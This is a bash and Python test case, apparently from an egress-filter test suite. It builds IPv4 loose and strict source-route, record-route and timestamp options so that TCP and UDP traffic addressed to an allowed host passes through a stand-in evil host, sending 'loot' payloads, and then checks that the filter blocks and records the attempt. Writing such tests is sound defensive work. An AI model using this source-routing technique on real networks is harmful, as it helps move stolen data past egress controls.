#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: connects and sends to an allowed host with IPv4 options that route the packet by another one (loose and strict source routing), or that collect data
# stopped-by: egress
# reason: ip_options
# kernels: all
#
# The socket calls see the allowed host; the kernel puts the first hop into the packet's header.
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000

attack_by <<'PYTHON'
from attacker import *

LOOSE, STRICT, RECORD, TIMESTAMP = 131, 137, 7, 68
IP_RETOPTS = 7

def route(kind):
    """By the evil host; strictly, by the router on the link first."""
    hops = [EVIL4] if kind == LOOSE else ["192.0.2.1", EVIL4]
    option = bytes([kind, 3 + 4 * len(hops), 4]) + b"".join(map(socket.inet_aton, hops))
    return option.ljust((len(option) + 3) // 4 * 4, b"\0")

for kind, tag in (LOOSE, "loose"), (STRICT, "strict"):
    with attempt("tcp " + tag):
        sock = tcp(GOOD4, 0.2)
        sock.setsockopt(socket.SOL_IP, socket.IP_OPTIONS, route(kind))
        sock.connect((GOOD4, 443))
    with attempt("udp " + tag):
        sock = udp(GOOD4)
        sock.setsockopt(socket.SOL_IP, socket.IP_OPTIONS, route(kind))
        sock.sendto(loot(tag), (GOOD4, 9000))
    with attempt("udp by control message " + tag):
        udp(GOOD4).sendmsg([loot("control-" + tag)], [(socket.SOL_IP, IP_RETOPTS, route(kind))], 0, (GOOD4, 9000))
for option, tag in (bytes([RECORD, 7, 4]) + bytes(5), "record"), (bytes([TIMESTAMP, 8, 5, 0]) + bytes(4), "timestamp"):
    with attempt(tag):
        sock = udp(GOOD4)
        sock.setsockopt(socket.SOL_IP, socket.IP_OPTIONS, option)
        sock.sendto(loot(tag), (GOOD4, 9000))
PYTHON
works 'ip4 6 .* EVIL4 443 .*options' 'ip4 17 .* EVIL4 9000 .*options' \
	'ip4 17 .* 192.0.2.1 9000 .*stolen:strict.*options' stolen:loose stolen:strict stolen:control-loose stolen:control-strict stolen:record stolen:timestamp
gate
stopped
recorded egress ip_options
